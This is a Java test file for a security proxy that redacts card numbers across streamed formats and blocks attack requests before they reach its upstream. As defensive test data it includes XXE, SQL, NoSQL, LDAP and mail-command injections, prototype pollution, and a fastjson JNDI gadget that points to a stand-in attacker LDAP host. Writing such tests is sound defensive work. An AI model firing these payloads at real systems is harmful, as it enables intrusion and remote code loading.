package dev.sluice.standalone.serve;

import static dev.sluice.standalone.serve.ServeTests.awaitEvent;
import static dev.sluice.standalone.serve.ServeTests.get;
import static dev.sluice.standalone.serve.ServeTests.hasFinding;
import static dev.sluice.standalone.serve.ServeTests.metric;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * {@code sluice serve} carrying the policy out, end to end over real sockets: a JDK HTTP server
 * upstream that counts what reaches it, the proxy with a policy that redacts cards in responses,
 * blocks attacks in requests and social security numbers in exports, fails closed on one route,
 * and budgets cards per token; clients are curl and Java's HTTP client. The hold limit is 4 KiB.
 */
class EnforcementTest {
    static final String POLICY = """
            version: 1
            mode: enforce
            defaults:
              on_failure: open
              actions:
                pii: alert
                secret: alert
                attack: alert
              request:
                attack: block
              response:
                credit_card: {action: redact, mask: keep_last_4}
            routes:
              - name: export
                match: {path: /export/**}
                response:
                  us_ssn: block
              - name: strict
                match: {path: /strict/**}
                on_failure: closed
              - name: web
                match: {path: /web/**}
                block_response:
                  status: 406
                  content_type: text/html; charset=utf-8
                  body: "<p>Refused. Reference {event_id}.</p>"
                  headers:
                    Access-Control-Allow-Origin: https://app.acme.io
                    X-Refusal: "{event_id}"
            budgets:
              - name: card-harvest
                detectors: [credit_card]
                max_distinct: 2
                window: 1m
                cooldown: 2s
            """;
    static final int HOLD_LIMIT = 4096;
    private static final String PART_1 = "{\"owner\":\"Alice\",\"card\":\"41111111";
    private static final String PART_2 = "11111111\",\"note\":\"thanks\"}";
    private static final String PLAIN = "{\"items\":[1,2,3],\"note\":\"nothing to see\"}";
    private static final String PEOPLE = "{\"people\":[{\"name\":\"Bob\",\"ssn\":\"287-65-4309\"}]}";
    /** A card in a response held for a block rule that passes the hold limit. */
    private static final String LARGE_WITH_CARD = "{\"pad\":\"" + "y".repeat(HOLD_LIMIT * 3)
            + "\",\"card\":\"4111111111111111\"}";
    private static final String GRPC_WEB_TEXT = grpcWebTextAnswer("4111 1111 1111 1111");
    private static final String THREE_CARDS = "{\"cards\":[\"4111111111111111\",\"5555555555554444\","
            + "\"4012888888881881\"],\"pad\":\"" + "x".repeat(20_000) + "\"}";
    /** A SOAP answer whose card number the upstream writes across two chunks. */
    private static final String SOAP_1 = "<?xml version=\"1.0\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">"
            + "<soap:Body><ns:GetCardResponse xmlns:ns=\"urn:bank\"><ns:Card holder=\"A &amp; B\"><ns:Pan>4111 1111";
    private static final String SOAP_2 = " 1111 1111</ns:Pan><ns:Note><![CDATA[<ok>]]></ns:Note></ns:Card></ns:GetCardResponse>"
            + "</soap:Body></soap:Envelope>";
    private static final String EVENT_1 = "event: delta\ndata: {\"choices\":[{\"delta\":{\"content\":\"Hello\"}}]}\n\n";
    private static final String EVENT_2 = "event: delta\ndata: {\"choices\":[{\"delta\":{\"content\":"
            + "\"card 4111 1111 1111 1111\"}}]}\n\n";
    /** A model's answer streamed a few bytes per event, a card number cut across three of them. */
    private static final String[] TOKENS = tokenEvents("Your card is 4111", " 1111 11", "11 1111", ", thanks");
    /** A private key of 2,048 bits a model streams five bytes per event, its newlines JSON escapes. */
    private static final String[] KEY_EVENTS =
            tokenEvents(piecesOf("Here it is:\\n" + privateKey() + "\\nKeep it safe.", 5));
    /** Opened by the test once the stream's first event reached it through the proxy. */
    private static final CountDownLatch FIRST_EVENT_SEEN = new CountDownLatch(1);
    private static final Map<String, AtomicInteger> HITS = new ConcurrentHashMap<>();
    /** The last request body each path received. */
    private static final Map<String, byte[]> RECEIVED = new ConcurrentHashMap<>();

    @TempDir
    static Path dir;
    private static HttpServer upstream;
    private static ServeRuntime serve;
    private static Path events;

    @BeforeAll
    static void start() throws Exception {
        upstream = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 16);
        upstream.createContext("/", ex -> {
            String path = ex.getRequestURI().getPath();
            HITS.computeIfAbsent(path, p -> new AtomicInteger()).incrementAndGet();
            RECEIVED.put(path, ex.getRequestBody().readAllBytes());
            switch (path) {
                case "/cards" -> chunked(ex, PART_1, PART_2);
                case "/soap" -> chunkedAs(ex, "application/soap+xml; charset=utf-8", SOAP_1, SOAP_2);
                case "/harvest" -> chunked(ex, THREE_CARDS.substring(0, 9000), THREE_CARDS.substring(9000));
                case "/events" -> eventStream(ex);
                case "/tokens" -> chunkedAs(ex, "text/event-stream", TOKENS);
                case "/key-stream" -> chunkedAs(ex, "text/event-stream", KEY_EVENTS);
                case "/export/people" -> ServeTests.respondJson(ex, PEOPLE);
                case "/export/large" -> ServeTests.respondJson(ex, LARGE_WITH_CARD);
                case "/cbor" -> chunkedBytes(ex, "application/cbor", CBOR_WITH_CARD, CBOR_WITH_CARD.length - 12);
                case "/pubsub" -> chunked(ex, PUBSUB.substring(0, 40), PUBSUB.substring(40));
                case "/sso" -> chunkedAs(ex, "text/html; charset=utf-8", SSO_PAGE.substring(0, 120),
                        SSO_PAGE.substring(120));
                case "/grpc-web-text" -> chunkedAs(ex, "application/grpc-web-text+proto",
                        GRPC_WEB_TEXT.substring(0, 21), GRPC_WEB_TEXT.substring(21));
                default -> ServeTests.respondJson(ex, PLAIN);
            }
        });
        upstream.start();
        Path policy = dir.resolve("policy.yaml");
        Files.writeString(policy, POLICY);
        events = dir.resolve("events.jsonl");
        serve = ServeRuntime.start(ServeTests.config("http://127.0.0.1:" + upstream.getAddress().getPort(), events)
                        .policyFile(policy).maxHeldBodyBytes(HOLD_LIMIT).build(), Map.of(),
                new PrintStream(new ByteArrayOutputStream(), true, StandardCharsets.UTF_8));
    }

    @AfterAll
    static void stop() {
        ServeTests.stop(serve, upstream);
    }

    /** A grpc-web-text answer: a message whose field 1 is {@code card} (19 bytes), then the trailer frame, each base64 on its own. */
    private static String grpcWebTextAnswer(String card) {
        java.util.Base64.Encoder base64 = java.util.Base64.getEncoder();
        return base64.encodeToString(ServeTests.grpcFrame(0, new byte[] {0x0a, 19},
                card.getBytes(StandardCharsets.US_ASCII)))
                + base64.encodeToString(ServeTests.grpcFrame(0x80, "grpc-status:0\r\n".getBytes(StandardCharsets.US_ASCII)));
    }

    /** A queue message whose base64 {@code data} is JSON holding a card; the upstream cuts it inside the base64. */
    private static final String PUBSUB_DATA = java.util.Base64.getEncoder().encodeToString(
            "{\"name\":\"Ana\",\"card\":\"4111 1111 1111 1111\"}".getBytes(StandardCharsets.UTF_8));
    private static final String PUBSUB = "{\"message\":{\"data\":\"" + PUBSUB_DATA + "\",\"messageId\":\"42\"}}";

    /**
     * An identity provider's page that posts a SAML response to the service: the hidden input's
     * value is base64 of XML holding a card; the upstream cuts it inside the base64.
     */
    private static final String SAML_DATA = java.util.Base64.getEncoder().encodeToString(("<samlp:Response>"
            + "<saml:Assertion><saml:Attribute Name=\"card\"><saml:AttributeValue>4111 1111 1111 1111"
            + "</saml:AttributeValue></saml:Attribute></saml:Assertion></samlp:Response>").getBytes(StandardCharsets.UTF_8));
    private static final String SSO_PAGE = "<html><body onload=\"document.forms[0].submit()\"><form method=\"post\""
            + " action=\"https://app.acme.io/acs\"><input type=\"hidden\" name=\"SAMLResponse\" value=\""
            + SAML_DATA + "\"/></form></body></html>";

    /** {@code {"name": "Ana", "card": "4111 1111 1111 1111", "n": 7}} in CBOR (RFC 8949 §3). */
    private static final byte[] CBOR_WITH_CARD = cborWithCard();

    private static byte[] cborWithCard() {
        java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
        b.write(0xa3);
        b.write(0x64);
        b.writeBytes("name".getBytes(StandardCharsets.US_ASCII));
        b.write(0x63);
        b.writeBytes("Ana".getBytes(StandardCharsets.US_ASCII));
        b.write(0x64);
        b.writeBytes("card".getBytes(StandardCharsets.US_ASCII));
        b.write(0x73); // a text string of 19 bytes
        b.writeBytes("4111 1111 1111 1111".getBytes(StandardCharsets.US_ASCII));
        b.write(0x61);
        b.write('n');
        b.write(0x07);
        return b.toByteArray();
    }

    /** {@code body} in two chunks, cut at {@code cut}, with a pause between. */
    private static void chunkedBytes(HttpExchange ex, String contentType, byte[] body, int cut) throws IOException {
        ex.getResponseHeaders().set("Content-Type", contentType);
        ex.sendResponseHeaders(200, 0);
        try (OutputStream out = ex.getResponseBody()) {
            out.write(body, 0, cut);
            out.flush();
            Thread.sleep(30);
            out.write(body, cut, body.length - cut);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    /** Each part flushed as its own chunk, with a pause, so that the proxy sees them apart. */
    static void chunked(HttpExchange ex, String... parts) throws IOException {
        chunkedAs(ex, "application/json", parts);
    }

    static void chunkedAs(HttpExchange ex, String contentType, String... parts) throws IOException {
        ex.getResponseHeaders().set("Content-Type", contentType);
        ex.sendResponseHeaders(200, 0);
        try (OutputStream out = ex.getResponseBody()) {
            for (String p : parts) {
                out.write(p.getBytes(StandardCharsets.UTF_8));
                out.flush();
                try {
                    Thread.sleep(30);
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            }
        }
    }

    /** A server-sent event stream that sends its second event only once the client has the first. */
    private static void eventStream(HttpExchange ex) throws IOException {
        ex.getResponseHeaders().set("Content-Type", "text/event-stream");
        ex.sendResponseHeaders(200, 0);
        try (OutputStream out = ex.getResponseBody()) {
            out.write(EVENT_1.getBytes(StandardCharsets.UTF_8));
            out.flush();
            FIRST_EVENT_SEEN.await(10, TimeUnit.SECONDS);
            out.write(EVENT_2.getBytes(StandardCharsets.UTF_8));
            out.flush();
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private static String proxy(String path) {
        return "http://127.0.0.1:" + serve.proxyPort() + path;
    }

    private static int hits(String path) {
        AtomicInteger n = HITS.get(path);
        return n == null ? 0 : n.get();
    }

    private static HttpResponse<byte[]> post(String path, String body, String... headers)
            throws IOException, InterruptedException {
        HttpRequest.Builder b = HttpRequest.newBuilder(URI.create(proxy(path))).timeout(Duration.ofSeconds(10))
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(body));
        for (int i = 0; i < headers.length; i += 2) {
            b.header(headers[i], headers[i + 1]);
        }
        return ServeTests.CLIENT.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    private static HttpResponse<byte[]> getWithToken(String path, String token)
            throws IOException, InterruptedException {
        return ServeTests.CLIENT.send(HttpRequest.newBuilder(URI.create(proxy(path))).timeout(Duration.ofSeconds(10))
                .header("Authorization", "Bearer " + token).build(), HttpResponse.BodyHandlers.ofByteArray());
    }

    /** Checks a 403 block answer and returns the event id it names. */
    private static String blockedEventId(HttpResponse<byte[]> r) throws IOException {
        assertEquals(403, r.statusCode(), new String(r.body(), StandardCharsets.UTF_8));
        JsonNode body = ServeTests.JSON.readTree(r.body());
        assertEquals("blocked", body.path("error").asText());
        String id = body.path("event_id").asText();
        assertFalse(id.isEmpty());
        return id;
    }

    private static JsonNode eventOf(String exchangeId) throws InterruptedException {
        return awaitEvent(events, e -> e.path("exchangeId").asText().equals(exchangeId));
    }

    @Test
    void aBenignBodyPassesByteIdentical() throws Exception {
        HttpResponse<byte[]> r = post("/echo", "{\"hello\":\"world\"}");
        assertEquals(200, r.statusCode());
        assertArrayEquals(PLAIN.getBytes(StandardCharsets.UTF_8), r.body());
    }

    @Test
    void aCardCutAcrossChunksIsRedactedForCurl() throws Exception {
        Assumptions.assumeTrue(ServeRuntimeTest.onPath("curl"), "curl is not installed");
        Process p = new ProcessBuilder("curl", "-sS", "--raw", "-D", "-", proxy("/cards"))
                .redirectErrorStream(true).start();
        assertTrue(p.waitFor(20, TimeUnit.SECONDS));
        String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertEquals(0, p.exitValue(), out);
        String lower = out.toLowerCase(java.util.Locale.ROOT);
        assertTrue(lower.contains("transfer-encoding: chunked"), out);
        assertFalse(lower.contains("content-length"), out);
        String body = new String(get(proxy("/cards")).body(), StandardCharsets.UTF_8);
        assertFalse(body.contains("4111111111111111"), body);
        assertTrue(body.contains("1111\""), body);
        assertTrue(body.startsWith("{\"owner\":\"Alice\",\"card\":\"") && body.endsWith("\",\"note\":\"thanks\"}"),
                body);
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/cards")
                && e.path("delivery").asText().equals("redacted"));
        assertEquals("redact", event.path("action").asText());
        assertEquals("enforce", event.path("mode").asText());
    }

    /**
     * A SOAP response is read as XML: the card cut across chunks is redacted inside its element,
     * the document stays well-formed, and the event names the element path, never the number.
     */
    @Test
    void aCardInASoapResponseIsRedactedAndTheXmlStaysWellFormed() throws Exception {
        String body = new String(get(proxy("/soap")).body(), StandardCharsets.UTF_8);
        assertFalse(body.contains("4111 1111 1111 1111"), body);
        assertTrue(body.startsWith(SOAP_1.substring(0, SOAP_1.indexOf("<ns:Pan>") + 8)), body);
        assertTrue(body.endsWith("1111</ns:Pan>" + SOAP_2.substring(SOAP_2.indexOf("</ns:Pan>") + 9)), body);
        javax.xml.parsers.DocumentBuilderFactory factory = javax.xml.parsers.DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        org.w3c.dom.Document doc = factory.newDocumentBuilder().parse(new java.io.ByteArrayInputStream(
                body.getBytes(StandardCharsets.UTF_8)));
        assertEquals("A & B", ((org.w3c.dom.Element) doc.getElementsByTagNameNS("urn:bank", "Card").item(0))
                .getAttribute("holder"));
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/soap")
                && e.path("delivery").asText().equals("redacted"));
        JsonNode finding = event.path("findings").get(0);
        assertEquals("credit_card", finding.path("id").asText());
        assertEquals("/Envelope/Body/GetCardResponse/Card/Pan", finding.path("path").asText());
        assertFalse(event.toString().contains("4111 1111 1111 1111"), "never the raw value");
    }

    /** A CBOR answer's card is masked in place, cut across chunks: every length stays, so the document stays valid. */
    @Test
    void aCardInACborResponseIsRedactedInPlace() throws Exception {
        byte[] body = get(proxy("/cbor")).body();
        assertEquals(CBOR_WITH_CARD.length, body.length);
        String text = new String(body, StandardCharsets.ISO_8859_1);
        String sent = new String(CBOR_WITH_CARD, StandardCharsets.ISO_8859_1);
        int card = sent.indexOf("4111 1111 1111 1111");
        assertEquals(sent.substring(0, card), text.substring(0, card), "the header and keys before the card");
        assertEquals(sent.substring(card + 19), text.substring(card + 19), "what follows the card");
        String masked = text.substring(card, card + 19);
        assertFalse(masked.contains("4111"), masked);
        assertTrue(masked.endsWith("1111"), masked);
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/cbor")
                && e.path("delivery").asText().equals("redacted"));
        assertEquals("$.card", event.path("findings").get(0).path("path").asText(), event.toString());
    }

    /**
     * A card inside a base64 string is found where the service that decodes it would see it, and
     * the string is replaced whole by the mask (no mask fits inside base64): the JSON stays valid,
     * everything around the string is unchanged.
     */
    @Test
    void aCardInsideABase64StringIsRedactedByReplacingTheString() throws Exception {
        String body = new String(get(proxy("/pubsub")).body(), StandardCharsets.UTF_8);
        JsonNode answer = ServeTests.JSON.readTree(body);
        String data = answer.path("message").path("data").asText();
        assertFalse(body.contains(PUBSUB_DATA), body);
        assertTrue(data.endsWith("1111") && !data.contains("4111"), data);
        assertEquals("42", answer.path("message").path("messageId").asText(), body);
        assertEquals(PUBSUB.substring(0, PUBSUB.indexOf(PUBSUB_DATA)), body.substring(0, PUBSUB.indexOf(PUBSUB_DATA)));
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/pubsub")
                && e.path("delivery").asText().equals("redacted"));
        assertEquals("$.message.data.card", event.path("findings").get(0).path("path").asText(), event.toString());
    }

    /**
     * The same in markup: the base64 SAML response of an auto-post page is read as the XML it is,
     * and the hidden input's value is replaced whole by the card's mask; the page around it is
     * unchanged.
     */
    @Test
    void aCardInsideABase64HiddenInputIsRedactedByReplacingTheValue() throws Exception {
        String body = new String(get(proxy("/sso")).body(), StandardCharsets.UTF_8);
        assertEquals(SSO_PAGE.replace(SAML_DATA, "**** **** **** 1111"), body);
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/sso")
                && e.path("delivery").asText().equals("redacted"));
        assertEquals("/Response/Assertion/Attribute/AttributeValue", event.path("findings").get(0).path("path").asText(),
                event.toString());
    }

    /**
     * A server-sent event stream is read event by event: the client gets the first event while the
     * upstream still waits to send the second (a proxy that held the stream would give it nothing
     * for ten seconds), and the card in the second event's JSON data is masked there.
     */
    @Test
    void anEventStreamGoesOutEventByEventWithItsDataRedacted() throws Exception {
        HttpResponse<InputStream> r = ServeTests.CLIENT.send(HttpRequest.newBuilder(URI.create(proxy("/events")))
                .timeout(Duration.ofSeconds(20)).build(), HttpResponse.BodyHandlers.ofInputStream());
        assertEquals(200, r.statusCode());
        try (InputStream in = r.body()) {
            CompletableFuture<String> first = CompletableFuture.supplyAsync(() -> readEvent(in));
            assertEquals(EVENT_1, first.get(5, TimeUnit.SECONDS), "the first event, before the upstream sends the next");
            FIRST_EVENT_SEEN.countDown();
            String rest = new String(in.readAllBytes(), StandardCharsets.UTF_8);
            assertFalse(rest.contains("4111 1111 1111 1111"), rest);
            assertTrue(rest.startsWith("event: delta\ndata: {\"choices\":[{\"delta\":{\"content\":\"card ")
                    && rest.endsWith("1111\"}}]}\n\n"), rest);
        }
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/events")
                && e.path("delivery").asText().equals("redacted"));
        assertEquals("$.choices[0].delta.content", event.path("findings").get(0).path("path").asText());
    }

    /** An event per piece of a model's answer, OpenAI's chat completion chunk reduced to its text. */
    static String[] tokenEvents(String... pieces) {
        String[] events = new String[pieces.length];
        for (int i = 0; i < pieces.length; i++) {
            events[i] = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"" + pieces[i] + "\"}}]}\n\n";
        }
        return events;
    }

    /**
     * A card number a model streams across three events is found on its delta path, and the
     * part of it the proxy still holds, the last event's piece, is masked (the rest had left).
     */
    @Test
    void aCardStreamedAcrossEventsIsFoundAndItsHeldPartMasked() throws Exception {
        HttpResponse<byte[]> r = get(proxy("/tokens"));
        assertEquals(200, r.statusCode());
        String body = new String(r.body(), StandardCharsets.UTF_8);
        // The upstream writes an event every 30 ms; an earlier piece the proxy still holds when
        // the card is whole (a slow read took two events at once) is masked as well.
        String last = TOKENS[2].replace("11 1111", "*******") + TOKENS[3];
        String second = TOKENS[1].replace(" 1111 11", "********");
        assertTrue(java.util.Set.of(TOKENS[0] + TOKENS[1] + last, TOKENS[0] + second + last,
                TOKENS[0].replace("4111", "****") + second + last).contains(body), body);
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/tokens"));
        assertEquals("redacted", event.path("delivery").asText());
        assertEquals(1, event.path("findings").size(), event.toString());
        JsonNode card = event.path("findings").get(0);
        assertEquals("credit_card", card.path("id").asText(), card.toString());
        assertEquals("$.choices[0].delta.content", card.path("path").asText());
    }

    /**
     * A private key streamed across some 350 events, far longer than the tail each piece is
     * joined to, is one finding on its delta path; the policy alerts on secrets, so every byte
     * goes through as sent.
     */
    @Test
    void aPrivateKeyStreamedAFewBytesPerEventIsOneFinding() throws Exception {
        HttpResponse<byte[]> r = get(proxy("/key-stream"));
        assertEquals(200, r.statusCode());
        assertEquals(String.join("", KEY_EVENTS), new String(r.body(), StandardCharsets.UTF_8));
        JsonNode event = awaitEvent(events, e -> e.path("path").asText().equals("/key-stream"));
        assertEquals(1, event.path("findings").size(), event.toString());
        JsonNode key = event.path("findings").get(0);
        assertEquals("private_key", key.path("id").asText(), key.toString());
        assertEquals("$.choices[0].delta.content", key.path("path").asText());
    }

    private static String privateKey() {
        byte[] der = new byte[1_190];
        new java.util.Random(11).nextBytes(der);
        // Lines of 64 characters, each line break written as a JSON escape (backslash, n).
        String body = java.util.Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der).replace("\n", "\\n");
        return "-----BEGIN RSA PRIVATE KEY-----\\n" + body + "\\n-----END RSA PRIVATE KEY-----";
    }

    /** {@code text} in pieces of {@code n} bytes, a JSON escape kept in one piece. */
    private static String[] piecesOf(String text, int n) {
        java.util.List<String> pieces = new java.util.ArrayList<>();
        for (int at = 0; at < text.length(); ) {
            int end = Math.min(text.length(), at + n);
            if (text.charAt(end - 1) == '\\') {
                end++;
            }
            pieces.add(text.substring(at, end));
            at = end;
        }
        return pieces.toArray(String[]::new);
    }

    /** Reads up to and including the blank line that ends the first event. */
    private static String readEvent(InputStream in) {
        StringBuilder b = new StringBuilder();
        try {
            int c;
            while (!b.toString().endsWith("\n\n") && (c = in.read()) >= 0) {
                b.append((char) c);
            }
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return b.toString();
    }

    /** An XML request declaring an external entity is refused before the upstream's XML parser can resolve it. */
    @Test
    void anXmlExternalEntityIsBlockedBeforeTheUpstream() throws Exception {
        int before = hits("/orders");
        String xxe = "<?xml version=\"1.0\"?>\n<!DOCTYPE order [<!ENTITY sku SYSTEM \"http://10.0.0.5/x.dtd\">]>\n"
                + "<order><sku>&sku;</sku></order>";
        HttpResponse<byte[]> r = send("/orders", "application/xml", xxe.getBytes(StandardCharsets.UTF_8));
        JsonNode event = eventOf(blockedEventId(r));
        assertEquals("detector:attack.xxe", event.path("reason").asText());
        assertEquals(before, hits("/orders"), "the upstream saw the entity declaration");
        HttpResponse<byte[]> plain = send("/orders", "application/xml",
                "<?xml version=\"1.0\"?><order><sku>A-7</sku></order>".getBytes(StandardCharsets.UTF_8));
        assertEquals(200, plain.statusCode(), "an XML order without a DTD goes on");
    }

    /**
     * Injections into the queries and objects a service builds from its input, under the default
     * policy; the last two in a form field that is base64 of JSON and of XML, which the service
     * decodes before it builds its query.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
        "attack.nosqli|application/json|{\"username\":\"admin\",\"password\":{\"$ne\":null}}",
        "attack.nosqli|application/x-www-form-urlencoded|username=admin&password%5B%24ne%5D=x",
        "attack.proto_pollution|application/json|{\"profile\":{\"__proto__\":{\"isAdmin\":true}}}",
        "attack.ldapi|application/x-www-form-urlencoded|user=*)(uid=*))(|(uid=*&pass=x",
        "attack.mail|application/json|{\"folder\":\"INBOX\\r\\nA1 DELETE INBOX\"}",
        "attack.sqli|application/x-www-form-urlencoded|filter=eyJuYW1lIjoieCcgT1IgJzEnPScxJyAtLSIsImxpbWl0IjoxMH0%3D",
        "attack.sqli|application/x-www-form-urlencoded|q=PGZpbHRlcj48bmFtZT54JyBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSB1c2VycyAtLTwvbmFtZT48L2ZpbHRlcj4=",
    })
    void anInjectionIntoAQueryOrAnObjectIsBlockedBeforeTheUpstream(String id, String contentType, String body)
            throws Exception {
        int before = hits("/login");
        HttpResponse<byte[]> r = send("/login", contentType, body.getBytes(StandardCharsets.UTF_8));
        JsonNode event = eventOf(blockedEventId(r));
        assertEquals("detector:" + id, event.path("reason").asText(), event.toString());
        assertEquals(before, hits("/login"), "the upstream saw a blocked request");
        assertFalse(hasFinding(event, "password_field"), "a member name is no password: " + event);
    }

    /**
     * An attack in a chunked request's trailers, which a backend that merges trailers into
     * headers reads: refused before the upstream, as one in a header is. The same request with
     * an everyday trailer goes on.
     */
    @Test
    void anAttackInARequestsTrailersIsRefusedBeforeTheUpstream() throws Exception {
        int before = hits("/trailers");
        String refused = chunkedWithTrailer("/trailers", "X-Note: ' OR '1'='1' --");
        assertTrue(refused.startsWith("HTTP/1.1 403"), refused);
        String id = ServeTests.JSON.readTree(refused.substring(refused.indexOf("\r\n\r\n") + 4)
                .lines().filter(l -> l.startsWith("{")).findFirst().orElseThrow()).path("event_id").asText();
        JsonNode event = eventOf(id);
        assertEquals("detector:attack.sqli", event.path("reason").asText(), event.toString());
        assertEquals("header:x-note", event.path("findings").get(0).path("path").asText(), event.toString());
        assertEquals(before, hits("/trailers"), "the upstream saw the attack");
        // The JDK's test server cannot read a request's trailers (it drops the connection: 502):
        // that the request went on to it, not refused, is what this shows.
        String passed = chunkedWithTrailer("/trailers", "X-Checksum: abc");
        assertTrue(passed.startsWith("HTTP/1.1 502"), passed);
    }

    /** A chunked JSON POST with one trailer field, over a socket of its own; the answer's text. */
    private static String chunkedWithTrailer(String path, String trailer) throws IOException {
        try (java.net.Socket socket = new java.net.Socket("127.0.0.1", serve.proxyPort())) {
            socket.setSoTimeout(10_000);
            String request = "POST " + path + " HTTP/1.1\r\nHost: api.example\r\nContent-Type: application/json\r\n"
                    + "Transfer-Encoding: chunked\r\nTrailer: " + trailer.substring(0, trailer.indexOf(':'))
                    + "\r\nConnection: close\r\n\r\n7\r\n{\"a\":1}\r\n0\r\n" + trailer + "\r\n\r\n";
            socket.getOutputStream().write(request.getBytes(StandardCharsets.UTF_8));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    void aGraphqlIntrospectionQueryIsRefusedAndAnOrdinaryQueryGoesOn() throws Exception {
        int before = hits("/graphql");
        String introspection = "{\"query\":\"query IntrospectionQuery { __schema { types { name fields { name } } } }\"}";
        JsonNode posted = eventOf(blockedEventId(send("/graphql", "application/json",
                introspection.getBytes(StandardCharsets.UTF_8))));
        assertEquals("detector:attack.graphql_introspection", posted.path("reason").asText(), posted.toString());
        JsonNode raw = eventOf(blockedEventId(send("/graphql", "application/graphql",
                "{ __type(name: \"User\") { fields { name } } }".getBytes(StandardCharsets.UTF_8))));
        assertEquals("detector:attack.graphql_introspection", raw.path("reason").asText(), raw.toString());
        JsonNode inUrl = eventOf(blockedEventId(get(proxy("/graphql?query=%7B__schema%7BqueryType%7Bname%7D%7D%7D"))));
        assertEquals("detector:attack.graphql_introspection", inUrl.path("reason").asText(), inUrl.toString());
        assertEquals("query:query", inUrl.path("findings").get(0).path("path").asText(), inUrl.toString());
        assertEquals(before, hits("/graphql"), "the upstream saw an introspection query");
        String ordinary = "{\"query\":\"query Orders($id: ID!) { user(id: $id) { name __typename orders { id __typename } } }\","
                + "\"variables\":{\"id\":\"7\"}}";
        assertEquals(200, send("/graphql", "application/json", ordinary.getBytes(StandardCharsets.UTF_8)).statusCode());
        assertEquals(before + 1, hits("/graphql"));
    }

    @Test
    void anInjectionInAGraphqlLiteralIsRefused() throws Exception {
        int before = hits("/graphql");
        String literal = "0 UNION SELECT username, password FROM users--";
        String json = "{\"query\":\"{ users(q: \\\"" + literal + "\\\") { id } }\",\"variables\":{}}";
        JsonNode posted = eventOf(blockedEventId(send("/graphql", "application/json", json.getBytes(StandardCharsets.UTF_8))));
        assertEquals("detector:attack.sqli", posted.path("reason").asText(), posted.toString());
        assertEquals("$.query.users(q)", posted.path("findings").get(0).path("path").asText(), posted.toString());
        JsonNode raw = eventOf(blockedEventId(send("/graphql", "application/graphql",
                ("mutation { search(q: \"" + literal + "\") { id } }").getBytes(StandardCharsets.UTF_8))));
        assertEquals("search(q)", raw.path("findings").get(0).path("path").asText(), raw.toString());
        // GraphQL over GET: the document in the query parameter, its variables as JSON beside it.
        JsonNode overGet = eventOf(blockedEventId(get(proxy("/graphql?query="
                + URLEncoder.encode("query { users(q: \"" + literal + "\") { id } }", StandardCharsets.UTF_8)))));
        assertEquals("query:query.users(q)", overGet.path("findings").get(0).path("path").asText(), overGet.toString());
        JsonNode variables = eventOf(blockedEventId(send("/graphql", "application/x-www-form-urlencoded",
                ("query=query+Q%28%24q%3AString%29+%7B+users%28q%3A%24q%29+%7B+id+%7D+%7D&variables="
                        + URLEncoder.encode("{\"q\":\"" + literal + "\"}", StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8))));
        assertEquals("variables.q", variables.path("findings").get(0).path("path").asText(), variables.toString());
        assertEquals(before, hits("/graphql"), "the upstream saw an injection");
    }

    @Test
    void aSerializedObjectIsRefusedBeforeTheUpstream() throws Exception {
        int before = hits("/import");
        // fastjson's JdbcRowSetImpl gadget: a JNDI lookup to the attacker's LDAP server.
        String gadget = "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://10.9.8.7:1389/Exploit\","
                + "\"autoCommit\":true}";
        JsonNode json = eventOf(blockedEventId(post("/import", gadget)));
        assertEquals("detector:attack.deserialization", json.path("reason").asText(), json.toString());
        // A Java stream as the body's bytes (ObjectOutputStream writing a HashMap), raw.
        byte[] stream = java.util.HexFormat.of().parseHex(
                "aced0005737200116a6176612e7574696c2e486173684d61700507dac1c31660d103000246000a6c6f6164466163746f72");
        JsonNode raw = eventOf(blockedEventId(send("/import", "application/x-java-serialized-object", stream)));
        assertEquals("detector:attack.deserialization", raw.path("reason").asText(), raw.toString());
